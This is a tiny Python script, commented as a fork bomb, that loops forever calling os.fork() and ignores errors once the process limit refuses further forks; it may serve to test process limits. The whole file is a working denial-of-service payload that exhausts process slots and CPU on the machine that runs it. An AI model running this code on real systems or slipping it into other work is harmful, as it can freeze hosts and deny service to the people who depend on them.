# Tries: a fork bomb; each process forks until the limit of processes refuses it, then goes on for ever.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
